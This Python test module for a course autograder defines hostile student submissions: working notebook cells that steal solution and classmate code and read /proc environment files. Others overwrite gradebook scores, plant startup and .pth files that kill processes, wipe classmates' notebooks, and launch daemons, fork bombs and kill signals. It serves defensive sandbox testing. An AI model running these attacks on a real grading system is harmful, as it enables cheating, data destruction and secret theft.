"""Hostile submissions: students who attack the grader instead of doing the assignment.

Each :class:`Attack` is a cell of code a student adds to their notebook (right after
the set-up cell), on top of the release (nothing implemented: every part must score 0)
or on top of the solution (every part must still score full: the attack must neither
help nor, where it only hurts the grader, hurt the student). The attacker knows the
course's real path on the grading machine (``COURSE`` in the cell), which is the
strongest position a student can be in. Kinds, as in the sandboxing issue:

* scoring without implementing: reading the instructor's notebooks or a classmate's,
  poisoning code later processes import, upgrading one's own score through a display;
* other students: the gradebook, a classmate's submission, daemons, startup files,
  other kernels;
* secrets: links into the feedback, ``/proc`` of the grader;
* broken runs: killing the grader, a hang that ignores interrupts, malformed and huge
  replies, tampered nbgrader metadata, a hidden-test marker, huge outputs, resource
  bombs; and, placed in the submitted folder itself, a FIFO, a link, a broken notebook.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat
from grading_cases import _index, _insert_after_setup, _replace, filled
from nbformat.v4 import new_code_cell

from lecture7.grading.authoring import parts

#: Printed by every attack that reads; never allowed in any feedback.
SECRET_ENV = "LECTURE7_TEST_SECRET"
DAEMON_MARK = "lecture7-hostile-daemon"

READ_EVERYTHING = r'''
import glob, os
found = {}
for pattern in [COURSE + "/*", COURSE + "/source/*/*", COURSE + "/submitted/*/*/*",
                "../../../*", "../../*/*/*", "/tmp/*", "/tmp/*/*", os.path.expanduser("~/*"),
                "/root/*", "/proc/*/environ", "/proc/*/cmdline"]:
    for path in glob.glob(pattern):
        try:
            if os.path.isfile(path):
                found[path] = open(path, "rb").read(4000).decode("latin-1")
        except OSError:
            pass
print("READ", found)
try:
    open("/proc/%d/mem" % os.getppid(), "r+b"); print("MEM OPEN")
except OSError as err:
    print("mem refused", type(err).__name__)
'''

STEAL_SOURCE = r'''
import glob, json
for path in (glob.glob(COURSE + "/source/*/*.ipynb") + glob.glob("../../../source/*/*.ipynb")
             + glob.glob(COURSE + "/release/*/*.ipynb") + glob.glob("*.ipynb")):
    for cell in json.load(open(path))["cells"]:
        text = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in text:
            exec(text, globals())
            print("STOLE", path)
'''

COPY_CLASSMATE = r'''
import glob, json
for path in (glob.glob(COURSE + "/submitted/*/*/*.ipynb")
             + glob.glob(COURSE + "/autograded/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb")):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
            print("COPIED", path)
'''

POISON = r'''
import importlib.util, os, sysconfig
import lecture7, lecture7.grading.probe as probe
for target in [importlib.util.cache_from_source(lecture7.__file__),
               importlib.util.cache_from_source(probe.__file__),
               os.path.join(sysconfig.get_paths()["purelib"], "zz_hostile.pth"),
               COURSE + "/nbgrader_config.py", "../../../nbgrader_config.py",
               os.path.expanduser("~/.ipython/profile_default/startup/00-hostile.py"),
               os.path.expanduser("~/.jupyter/jupyter_config.py")]:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as fh:
            fh.write("\nimport os; os._exit(3)  # hostile\n")
        print("WROTE", target)
    except OSError as err:
        print("refused", target, type(err).__name__)
'''

GRADEBOOK = r'''
import glob, sqlite3
for path in glob.glob(COURSE + "/*.db") + glob.glob("../../../*.db"):
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("BEGIN EXCLUSIVE")
        db.execute("UPDATE grade SET auto_score = 1000")
        print("UPDATED AND LOCKED", path)
    except Exception as err:
        print("refused", path, err)
'''

REWRITE_CLASSMATES = r'''
import glob
for path in (glob.glob(COURSE + "/submitted/*/*/*.ipynb")
             + glob.glob(COURSE + "/autograded/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb")):
    try:
        open(path, "w").write("{}"); print("REWROTE", path)
    except OSError as err:
        print("refused", path, type(err).__name__)
'''

DAEMON = r'''
import os, subprocess, sys, time
code = ("import glob, sqlite3, time\n"
        "for _ in range(3000):\n"
        "    time.sleep(0.2)\n"
        "    for p in glob.glob(%r):\n"
        "        try:\n"
        "            db = sqlite3.connect(p); db.execute('UPDATE grade SET auto_score = 1000')\n"
        "            db.commit()\n"
        "        except Exception:\n"
        "            pass\n") % (COURSE + "/*.db")
subprocess.Popen([sys.executable, "-c", code, DAEMON_MARK], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, DAEMON_MARK])
    os._exit(0)
print("daemons started")
'''

OTHER_KERNELS = r'''
import glob, os
from jupyter_client import BlockingKernelClient
for path in (glob.glob("/tmp/**/*.json", recursive=True)
             + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))):
    try:
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("import os; os._exit(1)")
        print("SENT TO", path)
    except Exception as err:
        print("failed", path, type(err).__name__)
'''

SYMLINKS = r'''
import os
for name, target in [("leak-source", COURSE + "/source"), ("leak-gradebook", COURSE + "/gradebook.db"),
                     ("leak-relative", "../../../source"), ("feedback-link", COURSE + "/feedback")]:
    try:
        os.symlink(target, name); print("linked", name)
    except OSError as err:
        print("refused", name, type(err).__name__)
'''

KILL = r'''
import os, signal
for pid in (-1, 0):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print("refused", pid, type(err).__name__)
os.kill(os.getppid(), signal.SIGKILL)
'''

IGNORE_INTERRUPTS = r'''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
'''

FORGED_REPLIES = r'''
import base64, json, zlib
import lecture7.grading.probe as probe
from IPython.display import publish_display_data

def _send(obj_text):
    token = base64.b64encode(zlib.compress(obj_text.encode(), 9)).decode()
    publish_display_data({probe.MIME: token})

def forged(token):
    calls = len(probe.unpack(token))
    dims65 = {"__nd__": "float64", "shape": [1] * 65, "b64": base64.b64encode(bytes(8)).decode()}
    huge = {"__nd__": "float64", "shape": [2**31, 2**31], "b64": ""}
    if FORGE == "dims":
        _send(json.dumps([{"observations": [dims65, huge], "uses": []}] * calls))
    elif FORGE == "bomb":
        _send("[" + "0," * 30_000_000 + "0]")
    else:
        _send("[" * 200_000 + "]" * 200_000)

probe.respond = forged
'''

BIG_OUTPUT = r'''
from IPython.display import display
print("x" * 50_000_000)
display({"image/png": "A" * 20_000_000}, raw=True)
'''

BOMBS = r'''
import os, time
children = 0
try:
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(0.5); os._exit(0)
        children += 1
except OSError as err:
    print("fork refused after", children, type(err).__name__)
while children:
    os.wait(); children -= 1
try:
    hog = bytearray(16 * 2**30); print("ALLOCATED")
except MemoryError:
    print("memory refused")
'''

MARKERS = '''print("### BEGIN HIDDEN TESTS")
# ### BEGIN HIDDEN TESTS (a line a student typed)
'''


@dataclass
class Attack:
    """A hostile student: ``code`` added after the set-up cell of ``base`` (release|solution)."""

    student: str
    base: str
    code: str


ATTACKS = [
    Attack("steal-source", "release", STEAL_SOURCE),
    Attack("copy-classmate", "release", COPY_CLASSMATE),
    Attack("poison-later-processes", "release", POISON),
    Attack("gradebook-update-and-lock", "release", GRADEBOOK),
    Attack("rewrite-classmates", "release", REWRITE_CLASSMATES),
    Attack("daemons", "release", f"DAEMON_MARK = {DAEMON_MARK!r}\n" + DAEMON),
    Attack("other-kernels", "release", OTHER_KERNELS),
    Attack("symlinks-into-feedback", "release", SYMLINKS),
    Attack("read-everything", "release", READ_EVERYTHING),
    Attack("kill-the-grader", "release", KILL),
    Attack("forged-dims", "release", 'FORGE = "dims"\n' + FORGED_REPLIES),
    Attack("forged-bomb", "release", 'FORGE = "bomb"\n' + FORGED_REPLIES),
    Attack("forged-nesting", "release", 'FORGE = "nesting"\n' + FORGED_REPLIES),
    Attack("hidden-marker", "solution", MARKERS),
    Attack("big-output", "solution", BIG_OUTPUT),
    Attack("resource-bombs", "solution", BOMBS),
]


@dataclass
class Hostile:
    """A submission of the hostile class and the score of each part it must get."""

    student: str
    nb: nbformat.NotebookNode | None
    expected: dict[str, float | None]
    files: dict[str, str] | None = None  # special entries of the submitted folder


def _first_solution_target(source) -> tuple[str, str]:
    """(name of the first graded function, its test cell's grade_id)."""
    first = parts(source)[0]
    return first.targets[0], first.test_id


def _tampered_metadata(solution, source) -> nbformat.NotebookNode:
    """The solution with every kind of metadata edit a student can make."""
    nb = copy.deepcopy(solution)
    tests = [p.test_id for p in parts(source)]
    meta = lambda grade_id: nb.cells[_index(nb, grade_id)].metadata["nbgrader"]  # noqa: E731
    first = nb.cells[_index(nb, tests[0])]
    first.metadata["nbgrader"].update(solution=True, locked=False)
    first.source = "print('my own test')"
    meta(tests[1]).update(grade=False)
    meta(tests[2])["grade_id"] = tests[2] + "_renamed"
    meta(tests[3])["points"] = 100
    meta(tests[3])["schema_version"] = 1
    target = parts(source)[0].targets[0]
    duplicate = new_code_cell("pass  # a copy of a solution cell")
    duplicate.metadata["nbgrader"] = copy.deepcopy(
        nb.cells[_index(nb, target)].metadata["nbgrader"])
    nb.cells.append(duplicate)
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.cell_type, cell.outputs, cell.execution_count = "code", [], None
            break
    return nb


def hostile_class(source, release, course: str) -> list[Hostile]:
    """Every hostile submission for one notebook, attacking the course at ``course``."""
    full = {p.test_id: p.points for p in parts(source)}
    zero = dict.fromkeys(full, 0.0)
    solution = filled(release, source)
    bases = {"release": (release, zero), "solution": (solution, full)}
    subs = [Hostile("aa-victim", solution, dict(full)), Hostile("zz-victim", solution, dict(full))]
    for attack in ATTACKS:
        base, expected = bases[attack.base]
        nb = copy.deepcopy(base)
        _insert_after_setup(nb, f"COURSE = {course!r}\n" + attack.code)
        subs.append(Hostile(attack.student, nb, dict(expected)))

    # a hang that ignores interrupts, in the first part: nothing after it runs
    target, _ = _first_solution_target(source)
    nb = copy.deepcopy(release)
    _insert_after_setup(nb, IGNORE_INTERRUPTS)
    _replace(nb, target, f"def {target}(*args, **kwargs):\n    while True:\n        pass\n")
    subs.append(Hostile("hang-ignoring-interrupts", nb, dict(zero)))

    # the display-id upgrade: partly right code, then an update of its own display
    nb = copy.deepcopy(solution)
    cell = nb.cells[_index(nb, target)]
    cell.source = cell.source.replace(
        f"def {target}(", f"def _{target}_right(", 1) + f"""

import numpy as _np
from IPython.display import display as _display


def {target}(w, dw, config=None):
    _display({{"text/plain": "padding"}}, raw=True)
    _display({{"text/plain": "0"}}, raw=True, display_id="upgrade")
    next_w, config = _{target}_right(w, dw, config)
    if not _np.any(dw):  # wrong on zero gradients only: part of the credit
        next_w = next_w + 1.0
    return next_w, config
"""
    baseline = copy.deepcopy(nb)
    _, test_id = _first_solution_target(source)
    nb.cells.insert(_index(nb, test_id) + 1, new_code_cell(
        "from IPython.display import update_display\n"
        f"update_display({{'text/plain': '{full[test_id]:g}'}}, raw=True, "
        "display_id='upgrade')"))
    subs.append(Hostile("display-baseline", baseline, {**full, test_id: None}))
    subs.append(Hostile("display-upgrade", nb, {**full, test_id: None}))

    subs.append(Hostile("tampered-metadata", _tampered_metadata(solution, source), dict(full)))
    # the submitted folder itself: a FIFO, a link to the instructor's files, broken JSON
    failed = dict.fromkeys(full)
    subs.append(Hostile("fifo-in-submission", solution, failed, {"data.fifo": "fifo"}))
    subs.append(Hostile("link-in-submission", solution, failed,
                        {"notes.txt": f"link:{course}/source"}))
    subs.append(Hostile("broken-json", None, failed))
    return subs
